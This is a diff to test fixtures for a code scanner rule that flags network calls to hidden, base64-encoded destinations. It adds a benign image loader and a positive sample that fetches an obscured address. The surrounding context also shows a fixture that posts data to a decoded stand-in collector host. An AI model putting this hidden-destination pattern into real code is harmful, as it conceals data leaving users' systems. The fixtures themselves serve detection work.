@@ -398,6 +398,35 @@ def send(data):
     target = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZA==").decode()
     requests.post(target, data=data)
 """
+# An image loader: a data URI is decoded into an in-memory file, a URL is fetched into one.
+IMAGE_LOADER = """\
+import base64, io
+
+import requests
+
+
+def load_image(source):
+    if source.startswith("data:image/"):
+        source = io.BytesIO(base64.b64decode(source.split(",", 1)[1]))
+    if isinstance(source, str) and source.startswith(("http://", "https://")):
+        with requests.get(source, timeout=10) as response:
+            source = io.BytesIO(response.content)
+    return source
+"""
+# The same loader shape, where another binding of the name is a decoded address.
+LOADER_WITH_DECODED_URL = """\
+import base64, io
+
+import requests
+
+
+def fetch(source):
+    if source.startswith("data:"):
+        source = io.BytesIO(base64.b64decode(source.split(",", 1)[1]))
+    else:
+        source = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZA==").decode()
+    return requests.get(source)
+"""
 # Decoding a payload is not hiding a destination.
 DECODED_PAYLOAD_TO_PLAIN_URL = """\
 import base64
@@ -1448,8 +1477,16 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
         benign=[module(SDK_UPLOAD_ON_REQUEST), module(IMPORT_POST_JSON)],
     ),
     "network-hidden-destination": RuleFixtures(
-        positive=[module(POST_TO_DECODED_URL), module(POST_TO_DECODED_URL, "pkg/utils/net.py")],
-        benign=[module(SDK_UPLOAD_ON_REQUEST), module(DECODED_PAYLOAD_TO_PLAIN_URL)],
+        positive=[
+            module(POST_TO_DECODED_URL),
+            module(POST_TO_DECODED_URL, "pkg/utils/net.py"),
+            module(LOADER_WITH_DECODED_URL),
+        ],
+        benign=[
+            module(SDK_UPLOAD_ON_REQUEST),
+            module(DECODED_PAYLOAD_TO_PLAIN_URL),
+            module(IMAGE_LOADER),
+        ],
     ),
     "import-fetch-program": RuleFixtures(
         positive=[module(IMPORT_FETCH_EXE)],
